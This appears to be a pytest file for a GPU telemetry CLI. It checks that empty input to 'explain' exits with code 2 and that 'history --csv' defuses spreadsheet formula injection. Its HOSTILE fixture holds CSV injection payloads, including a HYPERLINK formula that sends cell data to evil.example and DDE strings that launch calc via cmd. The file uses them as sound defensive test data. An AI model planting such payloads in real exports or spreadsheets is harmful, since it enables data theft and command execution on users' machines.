"""Issue 13, fifth hostile pass: what the command line is given to read.

* `explain` of nothing to read (an empty argument, empty standard input, a blank file, a paste of
  only a terminal's escape codes) said "No known GPU error in this text" and exit 0 (--json:
  matched false): now exit 2 ``explain-input-empty``, naming the input, with how to give one.
* `history --csv` wrote a host, GPU or process name as recorded: CSV stayed valid (the csv
  module quotes), but a name beginning "=", "+", "-" or "@" was a formula to a spreadsheet
  (OWASP's CSV Injection): such a text cell now begins with "'".
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from gpuwarden.cli.main import main
from gpuwarden.telemetry.store import Store
from gpuwarden.types.telemetry import ProcessSample
from tests.cli.test_fuzz_verbs import problem, run_in_process
from tests.telemetry.store import captures

# --- explain of nothing to read -------------------------------------------------------------

BLANKS = " \t\n\r\n\u00a0\u2028\u3000\n"  # a terminal's, a web page's, a CJK document's
# what a terminal copy of a coloured, titled screen with its text deleted keeps: SGR colours,
# a clear, a window title (OSC ended by BEL), a hyperlink (OSC ended by ST)
ESCAPES = "\x1b[0m\x1b[2J\x1b[1;31m\x1b]0;node-7: ~\x07\n\x1b]8;;http://x\x1b\\\x1b[0m\n"


def _stdin(monkeypatch: pytest.MonkeyPatch, data: bytes) -> None:
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data), encoding="utf-8"))


@pytest.mark.parametrize(
    ("data", "empty"),
    [
        (b"", True),
        (BLANKS.encode(), False),
        (ESCAPES.encode(), False),
        (((ESCAPES + BLANKS) * 50).encode(), False),
        (codecs.BOM_UTF8, True),
        (codecs.BOM_UTF16_LE + " \n".encode("utf-16-le"), False),
    ],
    ids=["empty", "blanks", "escape-codes", "escapes-and-blanks", "utf8-bom", "utf16-blanks"],
)
@pytest.mark.parametrize("given", ["stdin", "dash", "file", "text"])
def test_nothing_to_read_is_exit_2_naming_the_input(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, data: bytes, empty: bool, given: str
) -> None:
    log = tmp_path / "train.log"
    log.write_bytes(data)
    argv = {"stdin": [], "dash": ["-"], "file": ["--file", str(log)], "text": []}[given]
    if given == "text":
        if data.startswith((codecs.BOM_UTF8, codecs.BOM_UTF16_LE)):
            pytest.skip("a byte-order mark comes from a file, not an argument")
        argv = [data.decode()]
    _stdin(monkeypatch, data)
    outcome = run_in_process(["explain", *argv, "--json"])
    assert problem(outcome) is None and outcome.code == 2, outcome.out[:200]
    error = json.loads(outcome.err)
    assert error["reference"] == "explain-input-empty"
    name = {"stdin": "standard input", "dash": "standard input", "file": str(log)}.get(given)
    what = "empty" if empty else "only blanks or terminal escape codes"
    assert error["message"] == f"{name or 'TEXT'}: nothing to explain ({what})"
    assert "`dmesg | gpuwarden explain -`" in error["hint"]


def test_the_terminal_form_says_it_too(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["explain", ""]) == 2
    out, err = capsys.readouterr()
    assert out == "" and "error: explain-input-empty\n  TEXT: nothing to explain (empty)" in err


@pytest.mark.parametrize(
    "text",
    [
        "KeyError: 'labels'",
        "\x1b[31mKeyError: 'labels'\x1b[0m",  # a coloured line: its text is there to read
        "\x1b]0;title\x07.",  # one character of text
        "\u200b",  # a zero-width space is no blank (str.isspace): text, that matches nothing
    ],
    ids=["plain", "coloured", "one-character", "zero-width"],
)
def test_a_text_with_content_and_no_match_keeps_its_answer(text: str) -> None:
    outcome = run_in_process(["explain", text, "--json"])
    assert outcome.code == 0 and json.loads(outcome.out)["matched"] is False


def test_escape_codes_are_no_control_characters_of_a_binary() -> None:
    """A window title's OSC ends in BEL: four of them in a short paste were over 5 % controls,
    "not text (it is mostly control characters)"; the controls counted are those outside the
    escape codes, so the paste reads (and says what a text without them says)."""
    paste = "\x1b]0;a\x07\x1b]0;b\x07\x1b]0;c\x07\x1b]0;d\x07 CUDA error: out of memory\n"
    outcome = run_in_process(["explain", paste, "--json"])
    assert outcome.code == 0 and problem(outcome) is None, outcome.err
    plain = run_in_process(["explain", "CUDA error: out of memory", "--json"])
    assert json.loads(outcome.out)["diagnoses"] == json.loads(plain.out)["diagnoses"] != []


# --- history --csv -------------------------------------------------------------------------

HOSTILE = {
    "host": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "name": "+1+cmd|' /C calc'!A0, \"NVIDIA H100\"\nsecond line",
    "uuid": "@SUM(1+1)*cmd|' /C calc'!A0",
    "backend": "-2+3",
    "process": "=cmd|'/c calc'!A1",
}
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_store(tmp_path: Path, fixtures: Path) -> Path:
    """A `record` run whose host, GPU, backend and process names are each a formula, with the
    commas, quotes and line breaks CSV must quote, next to a run of plain names."""
    row = captures.query_gpu_rows(fixtures / f"{captures.H100_LOAD}.query-gpu.csv")[0]
    t0 = captures.capture_timestamp(row)
    (sample,) = captures.h100_samples(fixtures, 1, t0)
    process = ProcessSample(pid=4242, used_memory_bytes=1 << 30, name=HOSTILE["process"])
    hostile = replace(
        sample,
        info=replace(sample.info, name=HOSTILE["name"], uuid=HOSTILE["uuid"]),
        processes=(process,),
    )
    path = tmp_path / "hostile.db"
    with Store.open(path) as store:
        for k, each in enumerate((sample, hostile)):
            host = HOSTILE["host"] if each is hostile else "gpu-node-1"
            backend = HOSTILE["backend"] if each is hostile else "smi"
            run = store.begin_run(
                ["=cmd", "-e", "@x"], started_s=t0 + k, host=host, backend=backend, simulated=False
            )
            snapshot = replace(captures.snapshot((each,), t0 + k), host=host, backend=backend)
            store.write(snapshot)
            store.end_run(run, ended_s=t0 + k + 0.5, exit_code=0)
    return path


def test_history_csv_reads_back_and_opens_no_formula(hostile_store: Path) -> None:
    outcome = run_in_process(["history", "--db", str(hostile_store), "--csv"])
    assert outcome.code == 0 and problem(outcome) is None, outcome.err
    header, *rows = list(csv.reader(io.StringIO(outcome.out, newline="")))
    assert len(rows) == 2 and all(len(r) == len(header) for r in rows)
    plain, hostile = (dict(zip(header, r, strict=True)) for r in rows)
    for column in ("host", "name", "uuid", "backend"):
        assert hostile[column] == "'" + HOSTILE[column]  # the whole text, marked as text
    assert plain["host"] == "gpu-node-1" and plain["backend"] == "smi"
    assert plain["name"] == "NVIDIA H100 80GB HBM3" and plain["uuid"].startswith("GPU-")
    # the process list is JSON in one cell (it begins "["), its names as recorded
    assert json.loads(hostile["processes"])[0]["name"] == HOSTILE["process"]
    assert hostile["run_id"] == str(int(plain["run_id"]) + 1)
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_LEADS)]


def test_numbers_keep_their_sign(tmp_path: Path, fixtures: Path) -> None:
    """The rule is for text: a negative reading stays a number a spreadsheet sums."""
    row = captures.query_gpu_rows(fixtures / f"{captures.H100_LOAD}.query-gpu.csv")[0]
    t0 = captures.capture_timestamp(row)
    (sample,) = captures.h100_samples(fixtures, 1, t0)
    path = tmp_path / "cold.db"
    with Store.open(path) as store:
        store.write(captures.snapshot((replace(sample, temperature_gpu_celsius=-5.0),), t0))
    outcome = run_in_process(["history", "--db", str(path), "--csv"])
    (read,) = csv.DictReader(io.StringIO(outcome.out, newline=""))
    assert read["temperature_gpu_celsius"] == "-5.0"
